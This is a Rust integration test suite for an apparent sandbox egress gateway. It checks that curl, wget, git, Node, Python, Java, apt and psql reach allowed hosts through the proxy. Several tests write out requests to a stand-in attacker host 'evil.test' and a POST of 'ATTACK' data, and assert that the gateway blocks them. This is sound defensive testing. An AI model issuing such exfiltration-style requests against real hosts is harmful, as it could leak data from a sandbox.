//! Real clients through the gateway: those that know of proxies, and those that do not.

use std::path::Path;
use std::process::Command;

use cubicle_tests_postgresql::Cluster;

use crate::inside::Inside;
use crate::world::{in_a_world, installed, skip};

pub(crate) const WORD: &str = "installed through the gateway";
/// Runs a program of the host, which must end well.
pub(crate) fn run(program: &str, arguments: &[&str], at: &Path) {
    #[expect(clippy::disallowed_methods, reason = "a test prepares what it serves")]
    let mut command = Command::new(program);
    let done = command.args(arguments).current_dir(at).env("HOME", at).output();
    let done = done.unwrap_or_else(|error| panic!("{program}: {error}"));
    assert!(done.status.success(), "{program} {arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
}

/// What a client prints, with what it complains of.
pub(crate) fn all_of(inside: &Inside<'_>, command: &str) -> String {
    inside.sh(&format!("{{ {command}\n}} 2>&1 || true"))
}

#[test]
fn curl_works_by_proxy_socks_and_name() {
    if !installed("/usr/bin/curl") {
        return;
    }
    in_a_world(|world| {
        let inside = world.trusting(Some("allow origin.test"));
        for how in [
            "https://origin.test/x",
            "http://origin.test/x",
            "--noproxy '*' https://origin.test/x",
            "--noproxy '*' http://origin.test/x",
            "--socks5-hostname 127.0.0.1:3128 https://origin.test/x",
            "--proxytunnel http://origin.test/x",
        ] {
            let said = all_of(&inside, &format!("curl -sS {how}"));
            assert_eq!(said, "REACHED GET /x\n", "{how}");
        }
        let refused = all_of(&inside, "curl -sS http://evil.test/ATTACK; curl -sS https://evil.test/ATTACK");
        assert!(refused.contains("add 'allow http://evil.test' to the policy"), "{refused}");
        assert!(refused.contains("403") && !world.outside.heard_of("ATTACK"), "{refused}");
    });
}

#[test]
fn wget_works_by_proxy_and_name() {
    if !installed("/usr/bin/wget") {
        return;
    }
    in_a_world(|world| {
        let inside = world.trusting(Some("allow origin.test"));
        for how in ["https://origin.test/x", "http://origin.test/x", "--no-proxy https://origin.test/x"] {
            let said = all_of(&inside, &format!("wget -q -O - --ca-certificate=/workspace/root.pem {how}"));
            assert_eq!(said, "REACHED GET /x\n", "{how}");
        }
    });
}

#[test]
fn git_clones_over_https() {
    if !installed("/usr/bin/git") {
        return;
    }
    in_a_world(|world| {
        let scratch = world.server.host.scratch().to_owned();
        let own = ["-c", "user.name=a", "-c", "user.email=a@b", "-c", "commit.gpgsign=false"];
        run("git", &["init", "-q", "work"], &scratch);
        std::fs::write(scratch.join("work/file"), WORD).expect("the directory is ours");
        run("git", &["add", "file"], &scratch.join("work"));
        run("git", &[&own[..], &["commit", "-qm", "first"]].concat(), &scratch.join("work"));
        run("git", &["clone", "-q", "--bare", "work", "repo.git"], &scratch);
        run("git", &["update-server-info"], &scratch.join("repo.git"));
        world.outside.tree("/repo.git/", &scratch.join("repo.git"));
        let inside = world.trusting(Some("allow https://git.test"));
        let said = all_of(&inside, "git clone -q https://git.test/repo.git one && cat one/file");
        assert_eq!(said, WORD);
        let direct = "env -u https_proxy -u HTTPS_PROXY -u all_proxy -u ALL_PROXY";
        let said =
            all_of(&inside, &format!("{direct} git clone -q https://git.test/repo.git two && cat two/file"));
        assert_eq!(said, WORD, "without a proxy, by the name alone");
        let refused = all_of(&inside, "git clone -q https://evil.test/repo.git three");
        assert!(refused.contains("403"), "{refused}");
    });
}

/// It knows of no proxy: names lead to the gateway.
#[test]
fn the_fetch_of_node_works_without_knowing_of_a_proxy() {
    if !installed("/usr/bin/node") {
        return;
    }
    in_a_world(|world| {
        let inside = world.trusting(Some("allow origin.test; allow https://origin.test:8443"));
        for url in ["https://origin.test/x", "http://origin.test/x", "https://origin.test:8443/x"] {
            let said =
                all_of(&inside, &format!("node -e \"fetch('{url}').then(a => a.text()).then(console.log)\""));
            assert_eq!(said.trim(), "REACHED GET /x", "{url}");
        }
        let refused = all_of(
            &inside,
            "node -e \"fetch('https://evil.test/ATTACK').catch(e => console.log(e.cause.code))\"",
        );
        assert_eq!(refused.trim(), "ENOTFOUND");
    });
}

#[test]
fn clients_of_python_work_with_and_without_a_proxy() {
    in_a_world(|world| {
        let inside = world.trusting(Some("allow origin.test"));
        let said = inside.prints(
            r#"
import http.client, urllib.request
for url in ("https://origin.test/x", "http://origin.test/x"):
    print(urllib.request.urlopen(url).read().decode(), end="")
for make in (http.client.HTTPSConnection, http.client.HTTPConnection):
    connection = make("origin.test")
    connection.request("GET", "/x")
    print(connection.getresponse().read().decode(), end="")
"#,
        );
        assert_eq!(said, "REACHED GET /x\n".repeat(4));
        // The one that pip carries along is the same.
        let found = all_of(
            &inside,
            "python3 -c 'import requests' 2>/dev/null && echo requests || echo pip._vendor.requests",
        );
        let program = format!(
            "import {} as requests\nprint(requests.get('https://origin.test/x').text, end='')\nprint(requests.get('http://origin.test/x').text, end='')",
            found.trim()
        );
        let said = all_of(&inside, &format!("python3 - <<'END'\n{program}\nEND"));
        if said.contains("ModuleNotFoundError") {
            skip("requests is not installed where a sandbox sees it");
        } else {
            assert_eq!(said, "REACHED GET /x\n".repeat(2));
        }
        let said = all_of(
            &inside,
            "python3 -c \"import httpx; print(httpx.get('https://origin.test/x').text, end='')\"",
        );
        if said.contains("ModuleNotFoundError") {
            skip("httpx is not installed where a sandbox sees it");
        } else {
            assert_eq!(said, "REACHED GET /x\n");
        }
    });
}

#[test]
fn java_works_without_knowing_of_a_proxy() {
    if !installed("/usr/bin/javac") || !installed("/usr/bin/keytool") {
        return;
    }
    in_a_world(|world| {
        let inside = world.trusting(Some("allow origin.test"));
        let program = r#"
import java.net.URI;
import java.net.http.*;
public class Fetch {
    public static void main(String[] urls) throws Exception {
        for (String url : urls) {
            var request = HttpRequest.newBuilder(URI.create(url)).build();
            System.out.print(HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString()).body());
        }
    }
}
"#;
        let store =
            "keytool -importcert -noprompt -alias root -file root.pem -keystore store -storepass changeit";
        let fetch =
            "java -Djavax.net.ssl.trustStore=store -Djavax.net.ssl.trustStorePassword=changeit Fetch.java";
        let said = all_of(
            &inside,
            &format!(
                "cat > Fetch.java <<'END'\n{program}\nEND\n{store} >log 2>&1 || cat log\n{fetch} https://origin.test/x http://origin.test/x"
            ),
        );
        assert_eq!(said, "REACHED GET /x\n".repeat(2));
    });
}

#[test]
fn apt_downloads_by_proxy() {
    if !installed("/usr/lib/apt/apt-helper") {
        return;
    }
    in_a_world(|world| {
        let inside = world.trusting(Some("allow origin.test"));
        for (number, url) in ["http://origin.test/x", "https://origin.test/x"].iter().enumerate() {
            let helper = "/usr/lib/apt/apt-helper -o Acquire::https::CaInfo=/workspace/root.pem -o APT::Sandbox::User=";
            let said = all_of(
                &inside,
                &format!(
                    "{helper} download-file {url} /workspace/apt-{number} >log 2>&1 || cat log; cat apt-{number}"
                ),
            );
            assert_eq!(said, "REACHED GET /x\n", "{url}");
        }
    });
}

/// A database has no proxy: a rule for its port makes one for it.
#[test]
fn psql_reaches_a_database_that_a_rule_names() {
    if !installed("/usr/bin/psql") {
        return;
    }
    in_a_world(|world| {
        let Some(mut cluster) = Cluster::own() else { return };
        let settings = ["listen_addresses=127.0.0.1".to_owned(), "port=5433".to_owned()];
        cluster.restart_with(&settings, 5433);
        world.names.set("db.test", &["127.0.0.1"]);
        let ask = "PGCONNECT_TIMEOUT=20 psql -h db.test -p 5433 -U postgres -Atc 'select 6 * 7' postgres";
        let inside = world.sandbox("allow tcp://db.test:5433 private");
        assert_eq!(all_of(&inside, ask), "42\n");
        let refused = world.sandbox("allow tcp://db.test:5433");
        let said = all_of(&refused, ask);
        assert!(!said.contains("42"), "the name leads inwards: {said}");
        let denials = refused.bill()["denials"].to_string();
        assert!(denials.contains("a loopback address of the host"), "{denials}");
    });
}

#[test]
fn any_protocol_works_on_a_port_that_a_rule_names() {
    in_a_world(|world| {
        let inside = world.sandbox("allow tcp://origin.test:7000");
        let said = inside.prints(
            r#"
import asyncio
async def talk_directly():
    reader, writer = await asyncio.open_connection("origin.test", 7000)
    print(await reader.readline())
    writer.write(b"any bytes \x00\xff\n")
    print(await reader.readline())
asyncio.run(talk_directly())
"#,
        );
        assert_eq!(said, "b'hello\\n'\nb'any bytes \\x00\\xff\\n'\n");
    });
}

/// The gateway's own certificates are trusted by the usual clients without anything being set.
#[test]
fn clients_trust_the_gateway_where_a_host_is_inspected() {
    in_a_world(|world| {
        let inside = world.sandbox("allow GET https://origin.test/**; inspect origin.test; allow other.test");
        let commands = [
            ("/usr/bin/curl", "curl -sS https://origin.test/x"),
            (
                "/usr/bin/node",
                "node -e \"fetch('https://origin.test/x').then(a => a.text()).then(t => process.stdout.write(t))\"",
            ),
            (
                "/usr/bin/python3",
                "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://origin.test/x').read().decode(), end='')\"",
            ),
            (
                "/usr/bin/pip",
                "python3 -c \"from pip._vendor import requests; print(requests.get('https://origin.test/x').text, end='')\"",
            ),
        ];
        for (program, command) in commands {
            if installed(program) {
                assert_eq!(all_of(&inside, command), "REACHED GET /x\n", "{command}");
            }
        }
        let posted = inside.prints(
            r#"
import urllib.request
try:
    urllib.request.urlopen("https://origin.test/x", data=b"ATTACK")
except OSError as error:
    print(error)
"#,
        );
        assert!(posted.contains("403"), "only what the rule says: {posted}");
        assert!(!world.outside.heard_of("ATTACK"));
        let bill = inside.bill();
        assert!(bill["lines"].to_string().contains("\"method\":\"GET\""), "{bill}");
    });
}
